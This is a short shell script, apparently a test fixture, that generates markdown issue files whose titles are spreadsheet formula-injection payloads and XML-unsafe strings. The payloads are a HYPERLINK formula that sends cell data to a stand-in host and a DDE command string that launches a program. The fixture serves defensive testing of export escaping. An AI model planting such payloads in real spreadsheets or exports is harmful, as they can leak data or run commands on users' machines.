# Titles that a spreadsheet program would run, and what XML cannot hold.
mkdir -p notes
n=900
for title in '=HYPERLINK("http://x/?"&A1)' '+1+cmd|calc!A0' '＝1+1' 'A <b> & "q"'; do
	n=$((n + 1))
	printf '%s\n' '---' "id: ISS-0$n" 'kind: issue' "title: '$title'" \
	    'owner: PER-0002' 'created: 2026-01-10' 'side: external' \
	    'effect: negative' 'description: "-2+3"' 'status: open' \
	    '---' >notes/ISS-0$n.md
done
